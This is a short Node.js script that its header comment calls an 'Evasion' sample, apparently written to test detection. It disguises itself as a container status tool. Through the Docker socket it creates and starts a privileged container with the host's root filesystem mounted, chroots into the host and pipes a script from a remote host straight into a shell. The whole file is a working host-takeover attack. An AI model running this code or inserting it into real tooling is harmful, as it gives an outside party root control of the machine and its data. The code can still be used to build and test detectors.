// Evasion: a "container status" tool builds its request options as an
// empty object filled field by field; socketPath, set after the object is
// made, is the Docker socket, and the request creates a privileged
// container with the host's root mounted that runs a shell command.
'use strict';
const http = require('http');

function dockerRequest(method, path, body) {
  const opts = {};
  opts.method = method;
  opts.path = path;
  opts.headers = { 'content-type': 'application/json' };
  opts.socketPath = '/var/run/docker.sock';
  return new Promise((resolve, reject) => {
    const req = http.request(opts, (res) => {
      let data = '';
      res.on('data', (d) => { data += d; });
      res.on('end', () => resolve(data ? JSON.parse(data) : null));
    });
    req.on('error', reject);
    req.end(body ? JSON.stringify(body) : undefined);
  });
}

(async () => {
  const c = await dockerRequest('POST', '/containers/create', {
    Image: 'alpine',
    Cmd: ['chroot', '/host', 'sh', '-c', 'curl -fsSL https://c.example.io/x | sh'],
    HostConfig: { Binds: ['/:/host'], Privileged: true },
  });
  await dockerRequest('POST', `/containers/${c.Id}/start`);
  console.log('started', c.Id.slice(0, 12));
})();
